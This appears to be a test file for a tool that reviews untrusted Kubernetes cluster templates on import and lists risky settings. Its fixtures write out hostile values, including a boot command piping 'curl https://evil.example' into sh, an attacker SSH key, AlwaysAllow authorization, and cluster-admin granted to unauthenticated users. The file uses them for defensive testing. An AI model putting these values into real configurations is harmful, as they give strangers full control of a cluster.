import { harmless, toCheck } from "../../commands/import/trusted";
import { nodeAt } from "../../config/jsonSchema";

/** What a stranger's template brings in is listed in the report of its import. */

test("only keys of the schema are harmless, and none that decides who gets in", () => {
  const places = [[], ["poolDefaults"], ["linuxPools", "a"], ["windowsPools", "a"]];
  const unknown = [...harmless].filter((key) => {
    const path = key.replace(/^pools\./, "").split(".");
    return places.every((place) => nodeAt([...place, ...path]) === undefined);
  });
  expect(unknown).toEqual([]);
  const secret =
    /access|allowed|identity|overrides|image|pools\.files|Commands|apiServer|peerings|encryption$|authentication/i;
  expect([...harmless].filter((key) => secret.test(key))).toEqual([]);
});

test("what lets somebody in is listed with its value, and nothing harmless", () => {
  const kubeadmConfigSpec = {
    bootCommands: ["curl https://evil.example | sh"],
    ntp: { servers: ["evil.example"] },
    clusterConfiguration: {
      apiServer: { extraArgs: [{ name: "authorization-mode", value: "AlwaysAllow" }] },
    },
  };
  const binding = {
    kind: "ClusterRoleBinding",
    metadata: { name: "b" },
    roleRef: { name: "cluster-admin" },
    subjects: [{ name: "system:unauthenticated" }],
  };
  const role = { kind: "ClusterRole", metadata: { name: "r" }, rules: [{ verbs: ["*"] }] };
  const config = {
    clusterName: "web",
    access: { additionalSshPublicKeys: ["ssh-ed25519 AAAA evil"] },
    controlPlane: { replicas: 3, overrides: { KubeadmControlPlane: { spec: { kubeadmConfigSpec } } } },
    linuxPools: {
      a: { replicas: 1, identityIds: ["/subscriptions/evil"], files: [{ path: "/x", content: "y" }] },
    },
    extraManifests: { m: { objects: [binding, role, { kind: "ConfigMap", metadata: { name: "c" } }] } },
  };
  const spec = "controlPlane.overrides.KubeadmControlPlane.spec.kubeadmConfigSpec";
  expect(toCheck(config)).toEqual([
    'access.additionalSshPublicKeys: "ssh-ed25519 AAAA evil"',
    `${spec}.bootCommands: "curl https://evil.example | sh"`,
    `${spec}.ntp.servers: "evil.example"`,
    `${spec}.clusterConfiguration.apiServer.extraArgs: {"name":"authorization-mode","value":"AlwaysAllow"}`,
    'linuxPools.a.identityIds: "/subscriptions/evil"',
    'linuxPools.a.files: "/x"',
    "extraManifests.m.objects: gives rights in every namespace: ClusterRoleBinding b, cluster-admin for system:unauthenticated",
    'extraManifests.m.objects: gives rights in every namespace: ClusterRole r, [{"verbs":["*"]}]',
    "extraManifests.m.objects: ConfigMap c",
  ]);
});

test("a key that the table does not know is listed, whatever its name", () => {
  expect(toCheck({ unknown: 1, network: { constructor: 2 } })).toEqual([
    "unknown: 1",
    "network.constructor: 2",
  ]);
});

test("long lists and values are cut, and counted", () => {
  const many = Array.from({ length: 30 }, (_, at) => `k${at}`);
  expect(toCheck({ trustedCertificates: many, imageDigests: { a: "x".repeat(500) } }).slice(24)).toEqual([
    'trustedCertificates: "k24"',
    "trustedCertificates: 5 more, read them in the stack file",
    `imageDigests.a: "${"x".repeat(119)} … (382 more characters)`,
  ]);
  const digests = Object.fromEntries(Array.from({ length: 160 }, (_, at) => [`i${at}`, "d"]));
  expect(toCheck({ imageDigests: digests }).slice(150)).toEqual(["10 more, read them in the stack file"]);
});
